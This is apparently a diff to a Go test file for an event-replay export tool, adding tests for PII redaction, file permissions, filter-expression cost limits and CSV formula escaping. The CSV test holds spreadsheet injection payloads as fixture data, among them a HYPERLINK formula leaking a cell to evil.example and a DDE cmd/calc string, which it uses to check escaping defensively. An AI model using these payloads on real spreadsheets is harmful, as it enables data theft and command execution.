@@ -3,10 +3,12 @@ package replay_test
 import (
 	"bytes"
 	"context"
+	"encoding/csv"
 	"encoding/json"
 	"errors"
 	"fmt"
 	"io"
+	"math"
 	"math/big"
 	"os"
 	"os/exec"
@@ -113,7 +115,7 @@ func newFixture(t testing.TB, b streamstest.Backend, n int) *fixture {
 
 // fixtureEvent returns event i: its type's golden example with tenant-(i%3), corr-(i%5), a fresh
 // eventId, timestamp t0+i*step, grossTotal i*1000 for billing.created, and a unique marker in every
-// string under a pii field.
+// string under a pii field and in metadata.userId.
 func (f *fixture) fixtureEvent(t testing.TB, i int) *streams.Envelope {
 	t.Helper()
 	et := fixtureTypes[i%len(fixtureTypes)]
@@ -130,12 +132,14 @@ func (f *fixture) fixtureEvent(t testing.TB, i int) *streams.Envelope {
 		env.Data["grossTotal"].(map[string]any)["amount"] = big.NewRat(int64(i)*1000+25, 100)
 	}
 	k := 0
-	f.markPII(v.Data, env.Data, false, func() string {
+	next := func() string {
 		k++
 		m := fmt.Sprintf("PIIMARK%03dx%02d", i, k)
 		f.pii = append(f.pii, m)
 		return m
-	})
+	}
+	f.markPII(v.Data, env.Data, false, next)
+	env.Metadata.UserID = next()
 	return env
 }
 
@@ -238,6 +242,8 @@ func TestReplay(t *testing.T) {
 			t.Run("Parquet", f.testParquet)
 			t.Run("CSV", f.testCSV)
 			t.Run("Redact", f.testRedact)
+			t.Run("RedactedErrors", f.testRedactedErrors)
+			t.Run("FileModes", f.testFileModes)
 			t.Run("ToTopic", f.testToTopic)
 		})
 	}
@@ -501,7 +507,7 @@ func (f *fixture) testCSV(t *testing.T) {
 
 func (f *fixture) testRedact(t *testing.T) {
 	key := []byte("0123456789abcdef-test-key")
-	types := []string{"customer.created", "billing.created", "reservation.created"}
+	types := []string{"customer.created", "billing.created", "reservation.created", "billing.paid"}
 	var written [][]byte
 	var python string
 	for _, format := range replay.Formats {
@@ -537,8 +543,10 @@ func (f *fixture) testRedact(t *testing.T) {
 			t.Errorf("personal value %q appears in the redacted output", v)
 		}
 	}
-	if !bytes.Contains(all, []byte(`"email":"h:`)) {
-		t.Errorf("no hashed email in the output")
+	for _, field := range []string{"email", "userId", "token", "last4"} {
+		if !bytes.Contains(all, []byte(`"`+field+`":"h:`)) {
+			t.Errorf("no hashed %s in the output", field)
+		}
 	}
 	// The hash is keyed and stable: the same run gives the same bytes; another key other hashes.
 	c := f.config()
@@ -549,6 +557,59 @@ func (f *fixture) testRedact(t *testing.T) {
 	_, other := f.run(t, c)
 	if !bytes.Equal(sortedLines(a.Bytes()), sortedLines(b.Bytes())) || bytes.Equal(sortedLines(a.Bytes()), sortedLines(other.Bytes())) {
 		t.Errorf("redaction is not stable per key")
+	}
+}
+
+// testRedactedErrors: --where errors that quote a field value (CEL's timestamp() quotes the string it
+// cannot parse; a non-bool result used to be printed) do so without --redact and never with it.
+func (f *fixture) testRedactedErrors(t *testing.T) {
+	for _, where := range []string{
+		`timestamp(metadata.userId) > timestamp("2026-01-01T00:00:00Z")`,
+		`eventType == "billing.paid" ? data.card.token : false`,
+	} {
+		for _, redact := range []bool{false, true} {
+			c := f.config()
+			c.EventTypes, c.Where, c.Redact, c.RedactKey = []string{"billing.paid"}, where, redact, []byte("0123456789abcdef-test-key")
+			sum, _ := f.run(t, c)
+			quoted := strings.Contains(sum.Problem, "PIIMARK")
+			switch {
+			case sum.WhereErrors == 0 || !strings.Contains(sum.Problem, "billing.paid"):
+				t.Errorf("--where %s, redact %v: summary %q, problem %q: want where errors placed by event", where, redact, sum, sum.Problem)
+			case redact && (quoted || !strings.Contains(sum.Problem, "withheld under --redact")):
+				t.Errorf("--where %s under --redact: problem %q quotes a value or does not say it withheld the details", where, sum.Problem)
+			case !redact && where[0] == 't' && !quoted:
+				t.Errorf("--where %s: problem %q; the test expects CEL to quote the value without --redact", where, sum.Problem)
+			}
+		}
+	}
+}
+
+// testFileModes: every output file, in every format, is readable by its owner only (0600), also
+// one that existed before with mode 0644.
+func (f *fixture) testFileModes(t *testing.T) {
+	dir := t.TempDir()
+	jsonl := filepath.Join(dir, "out.jsonl")
+	if err := os.WriteFile(jsonl, []byte("old\n"), 0o644); err != nil {
+		t.Fatal(err)
+	}
+	outs := map[replay.Format]string{replay.JSONL: jsonl, replay.CSV: filepath.Join(dir, "csv") + "/", replay.Parquet: filepath.Join(dir, "pq", "new") + "/"}
+	var files []string
+	for _, format := range replay.Formats {
+		c := f.config()
+		c.EventTypes, c.Format, c.Out = []string{"billing.*"}, format, outs[format]
+		sum, _ := f.run(t, c)
+		if len(sum.Files) == 0 {
+			t.Fatalf("%s: no files written", format)
+		}
+		files = append(files, sum.Files...)
+	}
+	for _, file := range files {
+		if st, err := os.Stat(file); err != nil || st.Mode().Perm() != 0o600 {
+			t.Errorf("%s: %v, mode %v; want 0600", file, err, st.Mode().Perm())
+		}
+	}
+	if st, err := os.Stat(filepath.Join(dir, "pq", "new")); err != nil || st.Mode().Perm() != 0o700 {
+		t.Errorf("created output directory: %v, mode %v; want 0700", err, st.Mode().Perm())
 	}
 }
 
@@ -675,4 +736,145 @@ func (c cancelOnWrite) Write(p []byte) (int, error) {
 		c.cancel()
 	}
 	return len(p), nil
+}
+
+// TestReplayCSVInjection: CSV cells that a spreadsheet would run as a formula start with a ' (OWASP
+// CSV injection), plain numbers stay numbers, the file is valid CSV, and dropping the first
+// character of a cell that starts with ' gives back every raw value.
+func TestReplayCSVInjection(t *testing.T) {
+	f := newFixture(t, streamstest.Kfake(t), 0)
+	v, _ := f.set.Latest("billing.created")
+	env, err := f.serde.ParseJSON(v.Example)
+	if err != nil {
+		t.Fatal(err)
+	}
+	raw := map[string]string{
+		"data.billNumber":               `=HYPERLINK("http://evil.example/?d="&A1,"invoice")`,
+		"data.owner.address.city":       "+SUM(1,2)",
+		"data.owner.address.postalCode": "-2+3",
+		"data.propertyId":               "@cmd|' /C calc'!A0",
+		"data.owner.address.region":     "\tTAB",
+		"data.owner.name":               "\rCR",
+		"data.owner.taxId":              "'=quoted already",
+		"data.grossTotal.amount":        "-12.50",
+	}
+	d := env.Data
+	owner := d["owner"].(map[string]any)
+	addr := owner["address"].(map[string]any)
+	d["billNumber"], d["propertyId"] = raw["data.billNumber"], raw["data.propertyId"]
+	addr["city"], addr["postalCode"], addr["region"] = raw["data.owner.address.city"], raw["data.owner.address.postalCode"], raw["data.owner.address.region"]
+	owner["name"], owner["taxId"] = raw["data.owner.name"], raw["data.owner.taxId"]
+	d["grossTotal"].(map[string]any)["amount"] = big.NewRat(-1250, 100)
+	rec, err := f.serde.Record(context.Background(), env)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if err := f.b.Client(t).ProduceSync(context.Background(), rec).FirstErr(); err != nil {
+		t.Fatal(err)
+	}
+
+	dir := t.TempDir()
+	c := f.config()
+	c.EventTypes, c.Format, c.Out = []string{"billing.created"}, replay.CSV, dir
+	f.run(t, c)
+	file, err := os.Open(filepath.Join(dir, "billing.created.v1.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer file.Close()
+	rows, err := csv.NewReader(file).ReadAll()
+	if err != nil || len(rows) != 2 {
+		t.Fatalf("not a valid CSV of one event: %v, %d rows", err, len(rows))
+	}
+	for i, col := range rows[0] {
+		cell := rows[1][i]
+		want, ok := raw[col]
+		if !ok {
+			continue
+		}
+		delete(raw, col)
+		if strings.HasPrefix(cell, "'") {
+			cell = cell[1:]
+		} else if col != "data.grossTotal.amount" {
+			t.Errorf("%s: cell %q is not defused", col, rows[1][i])
+		}
+		if cell != want {
+			t.Errorf("%s: raw value %q, want %q (cell %q)", col, cell, want, rows[1][i])
+		}
+	}
+	if len(raw) > 0 {
+		t.Errorf("columns missing from the CSV: %v", raw)
+	}
+}
+
+// nestedAll is a --where expression that loops 10^depth times on every record.
+func nestedAll(depth int) string {
+	expr := "true"
+	for i := depth; i > 0; i-- {
+		expr = fmt.Sprintf("[0,1,2,3,4,5,6,7,8,9].all(v%d, v%d >= 0 && %s)", i, i, expr)
+	}
+	return expr
+}
+
+// runWithin runs r with ctx and fails the test when it has not returned after limit.
+func runWithin(t *testing.T, ctx context.Context, r *replay.Replay, limit time.Duration) (replay.Summary, time.Duration, error) {
+	t.Helper()
+	type result struct {
+		sum replay.Summary
+		err error
+	}
+	done := make(chan result, 1)
+	start := time.Now()
+	go func() { s, err := r.Run(ctx); done <- result{s, err} }()
+	select {
+	case res := <-done:
+		return res.sum, time.Since(start), res.err
+	case <-time.After(limit):
+		t.Fatalf("the replay was still running after %s", limit)
+	}
+	panic("unreachable")
+}
+
+// TestReplayWhereCost: an expression too expensive for one record stops the replay promptly with
+// ErrWhereCost naming the limit and its flag; a cheap one passes under the same limit.
+func TestReplayWhereCost(t *testing.T) {
+	f := newFixture(t, streamstest.Kfake(t), 4)
+	c := f.config()
+	c.Topics, c.Where = f.topicNames(), nestedAll(8)
+	r, err := replay.New(f.serde, f.cat, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	sum, took, err := runWithin(t, context.Background(), r, 10*time.Second)
+	if !errors.Is(err, replay.ErrWhereCost) || !strings.Contains(fmt.Sprint(err), "cost limit of 1000000 (--where-cost-limit)") || sum.Written != 0 {
+		t.Fatalf("summary %s, error %v; want ErrWhereCost naming 1000000 and --where-cost-limit", sum, err)
+	}
+	t.Logf("stopped after %s: %v", took.Round(time.Millisecond), err)
+	c.Where = nestedAll(3)
+	if sum, _ := f.run(t, c); sum.Written != 4 {
+		t.Errorf("a thousand iterations: summary %s, want the 4 events", sum)
+	}
+	c.WhereCostLimit = 0
+	if _, err := replay.New(f.serde, f.cat, c); !errors.Is(err, replay.ErrConfig) || !strings.Contains(err.Error(), "--where-cost-limit") {
+		t.Errorf("WhereCostLimit 0: %v, want ErrConfig naming --where-cost-limit", err)
+	}
+}
+
+// TestReplayWhereInterrupted: canceling the context (Ctrl-C) stops a --where evaluation that is
+// running, however long it would take: the replay returns promptly, marked interrupted.
+func TestReplayWhereInterrupted(t *testing.T) {
+	f := newFixture(t, streamstest.Kfake(t), 4)
+	c := f.config()
+	c.Topics, c.Where, c.WhereCostLimit = f.topicNames(), nestedAll(9), math.MaxUint64
+	r, err := replay.New(f.serde, f.cat, c)
+	if err != nil {
+		t.Fatal(err)
+	}
+	ctx, cancel := context.WithCancel(context.Background())
+	time.AfterFunc(500*time.Millisecond, cancel)
+	sum, took, err := runWithin(t, ctx, r, 5*time.Second)
+	if err != nil || !sum.Interrupted || sum.Written != 0 {
+		t.Fatalf("summary %s, error %v; want interrupted with nothing written", sum, err)
+	}
+	t.Logf("returned %s after the start, canceled at 500ms", took.Round(time.Millisecond))
 }
